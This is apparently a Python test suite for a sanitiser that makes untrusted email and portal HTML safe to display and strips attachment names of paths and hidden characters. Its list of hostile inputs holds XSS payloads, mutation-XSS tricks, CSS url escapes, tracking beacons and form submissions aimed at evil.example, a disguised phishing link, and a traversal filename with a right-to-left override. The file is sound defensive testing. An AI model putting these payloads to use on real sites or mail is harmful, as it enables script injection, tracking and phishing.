"""A stranger's HTML without anything that loads, runs or leads somewhere; files as they were sent."""

from __future__ import annotations

import base64
import json
from email.message import EmailMessage

import pytest
from hypothesis import given
from hypothesis import strategies as st
from selectolax.lexbor import LexborHTMLParser

from tools.limits import ReadingLimits
from tools.message import Channel
from tools.original import files, harmless, laid_out

PNG = b"\x89PNG\r\n\x1a\n" + bytes(20)
HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=//evil.example/t.gif>",
    "<img srcset='https://evil.example/a 2x'>",
    "<svg onload=alert(1)><use href='https://evil.example/#x'/></svg>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='https://evil.example/' ping='https://evil.example/p' target=_top>x</a>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<link rel=preconnect href='https://evil.example'>",
    "<link rel=stylesheet href='https://evil.example/a.css'>",
    "<style>@import url(https://evil.example/a.css); p { background: url(https://evil.example/b) }</style>",
    "<p style='background:url(https://evil.example/c)'>x</p>",
    "<p style='width:1px;border-image:u\\72l(https://evil.example/d)'>x</p>",
    "<p style=\"color:red;list-style:url('https://evil.example/e')\">x</p>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<table background='https://evil.example/f'><tr><td background='https://evil.example/g'>x</table>",
    "<form action='https://evil.example'><input name=password><button formaction='https://evil.example'>x</button></form>",
    "<iframe src='https://evil.example'></iframe><iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='https://evil.example'></object><embed src='https://evil.example'>",
    "<video src='https://evil.example/v' poster='https://evil.example/p'></video><audio src='https://evil.example'></audio>",
    "<noscript><p title='</noscript><img src=https://evil.example onerror=alert(1)>'></noscript>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img src='cid:nowhere'>",
    "<!--[if mso]><img src=https://evil.example/m><![endif]-->",
    "<blockquote cite='https://evil.example'>x</blockquote>",
    "<template><img src=https://evil.example></template>",
]  # fmt: skip
LOADS = (
    "src",
    "srcset",
    "href",
    "background",
    "action",
    "formaction",
    "data",
    "poster",
    "cite",
    "ping",
    "content",
    "id",
)


def shown(html: str) -> str:
    return harmless(html, {}, ReadingLimits()).html


def dangers(html: str) -> list[str]:
    """What of some HTML would run or ask for something, but for pictures that it holds."""
    found = []
    for node in LexborHTMLParser(f"<main>{html}</main>").css("main *"):
        found += [node.tag] if node.tag in ("script", "style", "iframe", "form", "input", "svg", "meta", "link") else []
        for name, value in node.attributes.items():
            own = name == "src" and (value or "").startswith("data:image/png;base64,")
            if name.startswith("on") or (name in LOADS and not own):
                found.append(f"{node.tag} {name}")
            if name == "style" and any(word in (value or "") for word in ("url", "\\", "position", "expression")):
                found.append(f"{node.tag} style {value}")
    return found


@pytest.mark.parametrize("html", HOSTILE)
def test_nothing_of_it_loads_runs_or_leads_anywhere(html):
    hides = html.startswith(("<!--", "<template", "<noscript"))
    assert dangers(html) or hides  # the check would see it
    assert dangers(shown(f"before {html}")) == []
    assert "before" in shown(f"before {html}")


@given(
    st.lists(st.sampled_from([*HOSTILE, "<p>", "</p>", "<div style='", "'>", "<!--", "-->", "</style>", '<b title="']))
)
def test_nor_do_pieces_of_it_put_together(pieces):
    """An unclosed quote or comment may swallow what follows, and give it another meaning."""
    assert dangers(shown("".join(pieces))) == []


def test_text_and_its_setting_stay():
    html = shown(
        "<table border=1><tr><td colspan=2 style='color: rgb(1, 2, 3); padding:4px'>Liefertermin <b>14.12.</b></td></tr></table>"
    )
    cell = LexborHTMLParser(html).css_first("td")
    assert cell is not None
    assert cell.text() == "Liefertermin 14.12."
    assert cell.attributes["colspan"] == "2"
    assert "rgb(1" in (cell.attributes["style"] or "")


def test_a_link_says_where_it_would_lead():
    link = LexborHTMLParser(
        shown("<a href='https://evil.example/pay' title='Your bank'>www.bank.example</a>")
    ).css_first("a")
    assert link is not None
    assert link.attributes == {"title": "https://evil.example/pay"}


def related(*pictures: tuple[str, bytes]) -> bytes:
    """A mail whose HTML shows these pictures and one of another server."""
    mail = EmailMessage()
    mail["From"], mail["Subject"] = "ann@supplier.example", "Later"
    shows = "".join(f"<img src='cid:{name}' alt='{name}'>" for name, _ in pictures)
    mail.set_content("Later.")
    mail.add_alternative(f"<p>Later.</p>{shows}<img src='https://evil.example/seen.gif'>", subtype="html")
    [html] = [part for part in mail.walk() if part.get_content_type() == "text/html"]
    for name, data in pictures:
        html.add_related(data, "image", "png", cid=f"<{name}>")  # type: ignore[attr-defined]
    mail.add_attachment(b"a;b\n1;2\n", maintype="text", subtype="csv", filename="../liste\u202e.csv")
    return mail.as_bytes()


def test_pictures_of_the_mail_are_shown_and_others_counted():
    """What is called a picture and is none is not shown either."""
    found = laid_out(related(("logo", PNG), ("page", b"<script>alert(1)</script>")), Channel.email)
    pictures = LexborHTMLParser(found.html).css("img")
    encoded = base64.b64encode(PNG).decode()
    assert [p.attributes.get("src") for p in pictures] == [f"data:image/png;base64,{encoded}", None, None]
    assert found.left_out == 2


def test_a_plain_mail_is_laid_out_as_text():
    found = laid_out(b"From: a@b.example\r\nSubject: x\r\n\r\n1 < 2 <script>alert(1)</script>\r\n", Channel.email)
    assert "1 &lt; 2 &lt;script&gt;" in found.html


def test_files_come_out_as_they_were_sent():
    """Of a mail and of a post; their names hold no path and nothing unseen."""
    found = files(related(("logo", PNG)), Channel.email)
    assert [(file.name, file.data) for file in found][1:] == [("liste.csv", b"a;b\n1;2\n")]
    post = {
        "body_html": "<p>x</p>",
        "attachments": [{"name": "a.pdf", "base64": base64.b64encode(b"%PDF").decode()}, 7],
    }
    assert [(f.name, f.data) for f in files(json.dumps(post).encode(), Channel.portal)] == [("a.pdf", b"%PDF")]
    assert files(b"UNA:+.? '", Channel.edi) == []


@pytest.mark.parametrize("channel", list(Channel))
@given(raw=st.binary(max_size=300))
def test_whatever_the_bytes_are_nothing_raises(channel, raw):
    assert isinstance(laid_out(raw, channel).html, str)
    assert isinstance(files(raw, channel), list)


def test_deep_nesting_leaves_the_words():
    assert "deep" in shown("<div>" * 30_000 + "deep")
